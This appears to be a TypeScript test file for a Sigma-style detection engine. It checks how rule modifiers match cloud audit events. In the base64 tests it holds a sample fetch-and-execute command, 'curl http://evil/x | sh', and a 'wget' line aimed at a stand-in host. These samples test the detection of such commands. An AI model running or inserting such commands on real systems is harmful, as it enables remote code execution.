import { describe, expect, it } from 'vitest';
import { base64Offsets } from '../../../src/detect/sigma/encoding.js';
import { simplifyUnanchored } from '../../../src/detect/sigma/regex.js';
import { compile, loadError } from './helpers.js';

const b64 = (s: string): string => Buffer.from(s, 'utf8').toString('base64');

describe('plain values', () => {
  it('matches exactly and case-insensitively by default', () => {
    const r = compile(`
selection:
  eventName: StopLogging
condition: selection`);
    expect(r.match({ eventName: 'StopLogging' })).toBe(true);
    expect(r.match({ eventName: 'stoplogging' })).toBe(true);
    expect(r.match({ eventName: 'StopLoggingX' })).toBe(false);
    expect(r.match({ eventName: 42 })).toBe(false);
    expect(r.match({})).toBe(false);
  });

  it('ORs a list of values and ANDs the fields of a map', () => {
    const r = compile(`
selection:
  eventSource: cloudtrail.amazonaws.com
  eventName:
    - StopLogging
    - DeleteTrail
condition: selection`);
    expect(r.match({ eventSource: 'cloudtrail.amazonaws.com', eventName: 'DeleteTrail' })).toBe(true);
    expect(r.match({ eventSource: 'cloudtrail.amazonaws.com', eventName: 'CreateTrail' })).toBe(false);
    expect(r.match({ eventSource: 's3.amazonaws.com', eventName: 'DeleteTrail' })).toBe(false);
  });

  it('ORs a list of maps', () => {
    const r = compile(`
selection:
  - eventName: A
    eventSource: x
  - eventName: B
condition: selection`);
    expect(r.match({ eventName: 'A', eventSource: 'x' })).toBe(true);
    expect(r.match({ eventName: 'A', eventSource: 'y' })).toBe(false);
    expect(r.match({ eventName: 'B' })).toBe(true);
  });

  it('matches wildcards with escapes', () => {
    const r = compile(`
selection:
  userAgent:
    - 'aws-cli/*'
    - '*\\*literal'
    - 'v?.0'
condition: selection`);
    expect(r.match({ userAgent: 'AWS-CLI/2.1 Python' })).toBe(true);
    expect(r.match({ userAgent: 'has *literal' })).toBe(true);
    expect(r.match({ userAgent: 'has Xliteral' })).toBe(false);
    expect(r.match({ userAgent: 'v1.0' })).toBe(true);
    expect(r.match({ userAgent: 'v10.0' })).toBe(false);
  });

  it('matches numbers as numbers or numeric text, and booleans as booleans or text', () => {
    const r = compile(`
selection:
  code: 4625
  flag: true
condition: selection`);
    expect(r.match({ code: 4625, flag: true })).toBe(true);
    expect(r.match({ code: '4625', flag: 'True' })).toBe(true);
    expect(r.match({ code: '4625.0', flag: 'true' })).toBe(true);
    expect(r.match({ code: 4626, flag: true })).toBe(false);
    expect(r.match({ code: 4625, flag: false })).toBe(false);
  });

  it('matches string patterns against number fields as text', () => {
    const r = compile(`
selection:
  port: '22'
condition: selection`);
    expect(r.match({ port: 22 })).toBe(true);
  });

  it('matches an empty string only against an empty value', () => {
    const r = compile(`
selection:
  errorCode: ''
condition: selection`);
    expect(r.match({ errorCode: '' })).toBe(true);
    expect(r.match({ errorCode: 'x' })).toBe(false);
    expect(r.match({})).toBe(false);
  });

  it('answers alike for a text field, the text in a list or an object, and other leaves', () => {
    // a string field takes the text test straight; every other shape walks its leaves to the same test
    const r = compile(`
selection:
  userAgent|contains:
    - Terraform
    - '*boto*'
  eventName: [ListUsers, GetUser]
condition: selection`);
    const agents = ['terraform/1.7', 'aws-cli/2 BOTO3/1', 'aws-sdk-js/3', ''];
    const shapes = (t: string): unknown[] => [t, [t], [1, t], { nested: { deep: t } }, [{ x: [t] }]];
    for (const agent of agents) {
      const want = /terraform|boto/i.test(agent);
      for (const shape of shapes(agent)) {
        for (const eventName of shapes('listusers'))
          expect(r.match({ userAgent: shape, eventName })).toBe(want);
      }
      expect(r.match({ userAgent: agent, eventName: 'ListRoles' })).toBe(false);
    }
    expect(r.match({ userAgent: 42, eventName: 'GetUser' })).toBe(false);
    expect(r.match({ userAgent: null, eventName: 'GetUser' })).toBe(false);
    expect(r.match({ eventName: 'GetUser' })).toBe(false);
  });
});

describe('null values', () => {
  it('match an absent or null field', () => {
    const r = compile(`
selection:
  errorCode: null
condition: selection`);
    expect(r.match({})).toBe(true);
    expect(r.match({ errorCode: null })).toBe(true);
    expect(r.match({ errorCode: 'AccessDenied' })).toBe(false);
    expect(r.match({ errorCode: '' })).toBe(false);
  });

  it('can be combined with other values in a list', () => {
    const r = compile(`
selection:
  errorCode:
    - null
    - ''
condition: selection`);
    expect(r.match({})).toBe(true);
    expect(r.match({ errorCode: '' })).toBe(true);
    expect(r.match({ errorCode: 'x' })).toBe(false);
  });

  it('an empty YAML value is null', () => {
    const r = compile(`
selection:
  errorCode:
condition: selection`);
    expect(r.match({ other: 1 })).toBe(true);
  });
});

describe('keywords', () => {
  it('match a substring of any string value or key, anywhere in the event', () => {
    const r = compile(`
keywords:
  - roleAssignments/write
  - break-glass
condition: keywords`);
    expect(r.match({ operationName: 'MICROSOFT.AUTHORIZATION/ROLEASSIGNMENTS/WRITE' })).toBe(true);
    expect(
      r.match({ a: { b: [{ c: 'x' }, { labels: { 'image-policy.k8s.io/break-glass': 'true' } }] } }),
    ).toBe(true);
    expect(r.match({ a: { b: ['nothing'] } })).toBe(false);
  });

  it('combine with selections in the condition', () => {
    const r = compile(`
selection:
  kind: pod
keywords:
  - secret
condition: selection and keywords`);
    expect(r.match({ kind: 'pod', note: 'a SECRET here' })).toBe(true);
    expect(r.match({ kind: 'pod', note: 'nothing' })).toBe(false);
    expect(r.match({ kind: 'svc', note: 'secret' })).toBe(false);
  });

  it('accept modifiers on an empty field name', () => {
    const r = compile(`
keywords:
  '|all':
    - alpha
    - beta
condition: keywords`);
    expect(r.match({ a: 'alpha', b: ['x', 'beta'] })).toBe(true);
    expect(r.match({ a: 'alpha' })).toBe(false);
  });
});

describe('string modifiers', () => {
  it('contains, startswith, endswith', () => {
    const c = compile(`
selection:
  userAgent|contains: Boto3
condition: selection`);
    expect(c.match({ userAgent: 'x boto3/1.2 y' })).toBe(true);
    expect(c.match({ userAgent: 'x' })).toBe(false);
    const s = compile(`
selection:
  userAgent|startswith: aws-cli
condition: selection`);
    expect(s.match({ userAgent: 'AWS-CLI/2' })).toBe(true);
    expect(s.match({ userAgent: 'x aws-cli' })).toBe(false);
    const e = compile(`
selection:
  arn|endswith: ':root'
condition: selection`);
    expect(e.match({ arn: 'arn:aws:iam::1:root' })).toBe(true);
    expect(e.match({ arn: 'arn:aws:iam::1:root/x' })).toBe(false);
  });

  it('contains keeps wildcards inside the value', () => {
    const r = compile(`
selection:
  cmd|contains: 'a*c'
condition: selection`);
    expect(r.match({ cmd: 'xx abbbc yy' })).toBe(true);
    expect(r.match({ cmd: 'xx ab' })).toBe(false);
  });

  it('all requires every value', () => {
    const r = compile(`
selection:
  message|contains|all:
    - Add user
    - Add member to role
condition: selection`);
    expect(r.match({ message: 'Add user; Add member to role' })).toBe(true);
    expect(r.match({ message: 'Add user' })).toBe(false);
  });

  it('all over a list field lets each value match a different element', () => {
    const r = compile(`
selection:
  actions|all:
    - s3:GetObject
    - s3:PutObject
condition: selection`);
    expect(r.match({ actions: ['s3:PutObject', 's3:GetObject'] })).toBe(true);
    expect(r.match({ actions: ['s3:PutObject'] })).toBe(false);
  });

  it('cased makes matching case-sensitive', () => {
    const r = compile(`
selection:
  eventName|cased: ConsoleLogin
condition: selection`);
    expect(r.match({ eventName: 'ConsoleLogin' })).toBe(true);
    expect(r.match({ eventName: 'consolelogin' })).toBe(false);
    const c = compile(`
selection:
  ua|contains|cased: Boto
condition: selection`);
    expect(c.match({ ua: 'x Boto y' })).toBe(true);
    expect(c.match({ ua: 'x boto y' })).toBe(false);
  });

  it('windash matches every dash form of a flag', () => {
    const r = compile(`
selection:
  cmd|windash|contains: ' -encodedcommand'
condition: selection`);
    expect(r.match({ cmd: 'powershell /EncodedCommand abc' })).toBe(true);
    expect(r.match({ cmd: 'powershell \u2013encodedcommand abc' })).toBe(true);
    expect(r.match({ cmd: 'powershell encodedcommand' })).toBe(false);
  });
});

describe('regular expressions', () => {
  it('are case-sensitive and unanchored by default', () => {
    const r = compile(`
selection:
  userIdentity.arn|re: ':assumed-role/aws:.+'
condition: selection`);
    expect(r.match({ userIdentity: { arn: 'arn:aws:sts::1:assumed-role/aws:ec2-instance/i-1' } })).toBe(true);
    expect(r.match({ userIdentity: { arn: 'arn:aws:sts::1:ASSUMED-ROLE/aws:x' } })).toBe(false);
  });

  it('take the i, m and s flags', () => {
    const i = compile(`
selection:
  v|re|i: '^abc$'
condition: selection`);
    expect(i.match({ v: 'ABC' })).toBe(true);
    const m = compile(`
selection:
  v|re|m: '^two$'
condition: selection`);
    expect(m.match({ v: 'one\ntwo\nthree' })).toBe(true);
    const noM = compile(`
selection:
  v|re: '^two$'
condition: selection`);
    expect(noM.match({ v: 'one\ntwo\nthree' })).toBe(false);
    const s = compile(`
selection:
  v|re|s: 'a.b'
condition: selection`);
    expect(s.match({ v: 'a\nb' })).toBe(true);
    const noS = compile(`
selection:
  v|re: 'a.b'
condition: selection`);
    expect(noS.match({ v: 'a\nb' })).toBe(false);
  });

  it('take a leading PCRE (?i) as a flag', () => {
    const r = compile(`
selection:
  v|re: '(?i)^admin'
condition: selection`);
    expect(r.match({ v: 'ADMINISTRATOR' })).toBe(true);
  });

  it('drop leading and trailing dot runs only where the search result cannot change', () => {
    expect(simplifyUnanchored('.+:assumed-role/aws:.+')).toBe('.:assumed-role/aws:.');
    expect(simplifyUnanchored('.*abc.*?')).toBe('abc');
    expect(simplifyUnanchored('^.+x')).toBe('^.+x');
    expect(simplifyUnanchored('a\\.*')).toBe('a\\.*');
    expect(simplifyUnanchored('(a|b).+')).toBe('(a|b).+');
    const patterns = ['.+b.+', '.*b', 'b.*', '.+?b', '.+', '.*', 'x\\..+', '.+\\d+.+'];
    const inputs = ['', 'b', 'ab', 'ba', 'abc', 'a\nb', '\nb\n', 'x.y', 'x.', 'a1b', '1', 'aaab\n'];
    for (const p of patterns) {
      for (const flags of ['', 's', 'm']) {
        const a = new RegExp(p, flags);
        const b = new RegExp(simplifyUnanchored(p), flags);
        for (const text of inputs)
          expect([p, flags, text, b.test(text)]).toEqual([p, flags, text, a.test(text)]);
      }
    }
  });

  it('report an invalid expression', () => {
    expect(
      loadError(`
selection:
  v|re: '(unclosed'
condition: selection`).reason,
    ).toMatch(/invalid regular expression/);
  });
});

describe('cidr', () => {
  const r = compile(`
selection:
  sourceIPAddress|cidr:
    - 10.0.0.0/8
    - 192.168.1.0/24
    - 2001:db8::/32
condition: selection`);

  it('matches IPv4 ranges', () => {
    expect(r.match({ sourceIPAddress: '10.200.3.4' })).toBe(true);
    expect(r.match({ sourceIPAddress: '192.168.1.77' })).toBe(true);
    expect(r.match({ sourceIPAddress: '192.168.2.1' })).toBe(false);
    expect(r.match({ sourceIPAddress: '11.0.0.1' })).toBe(false);
  });

  it('matches IPv6 ranges and IPv4-mapped addresses', () => {
    expect(r.match({ sourceIPAddress: '2001:db8:1::5' })).toBe(true);
    expect(r.match({ sourceIPAddress: '2001:db9::1' })).toBe(false);
    expect(r.match({ sourceIPAddress: '::ffff:10.1.1.1' })).toBe(true);
  });

  it('matches a range value that lies inside a rule range, any /0 being everyone', () => {
    expect(r.match({ sourceIPAddress: '10.20.0.0/16' })).toBe(true);
    expect(r.match({ sourceIPAddress: '10.0.0.0/7' })).toBe(false);
    const world = compile(`
selection:
  cidrIp|cidr: [0.0.0.0/0, ::/0]
condition: selection`);
    for (const v of ['0.0.0.0/0', '1.2.3.4/0', '::/0', '::1/0', '10.0.0.0/8'])
      expect(world.match({ cidrIp: v }), v).toBe(true);
    expect(world.match({ cidrIp: '10.0.0.0/33' })).toBe(false);
  });

  it('ignores values that are not addresses', () => {
    expect(r.match({ sourceIPAddress: 'cloudtrail.amazonaws.com' })).toBe(false);
    expect(r.match({ sourceIPAddress: 10 })).toBe(false);
  });

  it('reports a malformed range', () => {
    expect(
      loadError(`
selection:
  ip|cidr: 10.0.0.0/33
condition: selection`).reason,
    ).toMatch(/invalid prefix length/);
    expect(
      loadError(`
selection:
  ip|cidr: not-an-ip
condition: selection`).reason,
    ).toMatch(/not a valid CIDR/);
  });
});

describe('exists', () => {
  it('checks presence, including a null value', () => {
    const yes = compile(`
selection:
  errorCode|exists: true
condition: selection`);
    expect(yes.match({ errorCode: 'x' })).toBe(true);
    expect(yes.match({ errorCode: null })).toBe(true);
    expect(yes.match({})).toBe(false);
    const no = compile(`
selection:
  errorCode|exists: false
condition: selection`);
    expect(no.match({})).toBe(true);
    expect(no.match({ errorCode: 'x' })).toBe(false);
  });

  it('needs a boolean', () => {
    expect(
      loadError(`
selection:
  errorCode|exists: yes please
condition: selection`).reason,
    ).toMatch(/single true or false/);
  });
});

describe('numeric comparison', () => {
  it('gt, gte, lt, lte on numbers and numeric strings', () => {
    const gt = compile(`
selection:
  bytes|gt: 100
condition: selection`);
    expect(gt.match({ bytes: 101 })).toBe(true);
    expect(gt.match({ bytes: '150' })).toBe(true);
    expect(gt.match({ bytes: 100 })).toBe(false);
    expect(gt.match({ bytes: 'lots' })).toBe(false);
    const gte = compile(`
selection:
  bytes|gte: 100
condition: selection`);
    expect(gte.match({ bytes: 100 })).toBe(true);
    const lt = compile(`
selection:
  bytes|lt: 10
condition: selection`);
    expect(lt.match({ bytes: 9.5 })).toBe(true);
    expect(lt.match({ bytes: 10 })).toBe(false);
    const lte = compile(`
selection:
  bytes|lte: 10
condition: selection`);
    expect(lte.match({ bytes: 10 })).toBe(true);
    expect(lte.match({})).toBe(false);
  });

  it('rejects a non-numeric bound', () => {
    expect(
      loadError(`
selection:
  bytes|gt: many
condition: selection`).reason,
    ).toMatch(/needs a number/);
  });
});

describe('neq', () => {
  it('matches when no value equals', () => {
    const r = compile(`
selection:
  eventName: ConsoleLogin
filter:
  outcome|neq: Success
condition: selection and filter`);
    expect(r.match({ eventName: 'ConsoleLogin', outcome: 'Failure' })).toBe(true);
    expect(r.match({ eventName: 'ConsoleLogin', outcome: 'success' })).toBe(false);
  });
});

describe('time modifiers', () => {
  it('extract parts of a timestamp in UTC', () => {
    const r = compile(`
selection:
  eventTime|hour|gte: 22
condition: selection`);
    expect(r.match({ eventTime: '2024-03-01T23:10:00Z' })).toBe(true);
    expect(r.match({ eventTime: '2024-03-01T08:10:00Z' })).toBe(false);
    const m = compile(`
selection:
  eventTime|month: 3
condition: selection`);
    expect(m.match({ eventTime: '2024-03-01T23:10:00Z' })).toBe(true);
    const w = compile(`
selection:
  eventTime|week: 1
condition: selection`);
    expect(w.match({ eventTime: '2021-01-04T00:00:00Z' })).toBe(true);
    expect(w.match({ eventTime: '2021-01-03T00:00:00Z' })).toBe(false);
  });
});

describe('base64', () => {
  it('base64 matches the encoded value', () => {
    const r = compile(`
selection:
  data|base64: 'http://'
condition: selection`);
    expect(r.match({ data: b64('http://') })).toBe(true);
    expect(r.match({ data: 'http://' })).toBe(false);
  });

  it('base64offset|contains finds the value at any offset of a longer encoded string', () => {
    const r = compile(`
selection:
  userData|base64offset|contains: 'curl http'
condition: selection`);
    for (const prefix of ['', 'x', 'xy', 'xyz', '#!/bin/bash\n']) {
      expect(r.match({ userData: b64(`${prefix}curl http://evil/x | sh`) })).toBe(true);
    }
    expect(r.match({ userData: b64('wget http://evil') })).toBe(false);
  });

  it('computes the three offset forms', () => {
    expect(base64Offsets(Buffer.from('/bin/bash'))).toEqual(['L2Jpbi9iYXNo', '9iaW4vYmFza', 'vYmluL2Jhc2']);
  });

  it('wide encodes UTF-16LE before base64', () => {
    const r = compile(`
selection:
  cmd|wide|base64offset|contains: 'ping'
condition: selection`);
    const encoded = Buffer.from('cmd /c ping host', 'utf16le').toString('base64');
    expect(r.match({ cmd: encoded })).toBe(true);
  });

  it('refuses wildcards', () => {
    expect(
      loadError(`
selection:
  data|base64: 'a*'
condition: selection`).reason,
    ).toMatch(/cannot encode a value with wildcards/);
  });
});

describe('fieldref', () => {
  it('compares two fields of the event', () => {
    const r = compile(`
selection:
  eventName: UpdateLoginProfile
filter:
  userIdentity.userName|fieldref: requestParameters.userName
condition: selection and not filter`);
    expect(
      r.match({
        eventName: 'UpdateLoginProfile',
        userIdentity: { userName: 'bob' },
        requestParameters: { userName: 'alice' },
      }),
    ).toBe(true);
    expect(
      r.match({
        eventName: 'UpdateLoginProfile',
        userIdentity: { userName: 'Bob' },
        requestParameters: { userName: 'bob' },
      }),
    ).toBe(false);
  });

  it('works with endswith', () => {
    const r = compile(`
selection:
  userIdentity.arn|fieldref|endswith: requestParameters.userName
condition: selection`);
    expect(
      r.match({
        userIdentity: { arn: 'arn:aws:iam::1:user/alice' },
        requestParameters: { userName: 'alice' },
      }),
    ).toBe(true);
    expect(r.match({ userIdentity: { arn: 'arn:aws:iam::1:user/alice' } })).toBe(false);
  });
});

describe('unsupported or malformed modifiers', () => {
  it.each([
    ['v|nosuch: x', /unknown modifier "nosuch"/],
    ['v|expand: "%admins%"', /expand.*not supported/],
    ['v|contains|startswith: x', /cannot be combined/],
    ['v|re|contains: x', /cannot be combined/],
    ['v|i: x', /only valid after "re"/],
    ['v|wide: x', /need "base64"/],
    ['v|contains: null', /null cannot be combined/],
    ['v|cidr|gt: 1', /cannot be combined/],
    ['v: {nested: map}', /not a string, number, boolean or null/],
    ['v: []', /empty value list/],
  ])('%s', (item, reason) => {
    const e = loadError(`
selection:
  ${item}
condition: selection`);
    expect(e.reason).toMatch(reason);
    expect(e.title).toBe('Test rule');
    expect(e.id).toBe('test-rule');
  });
});
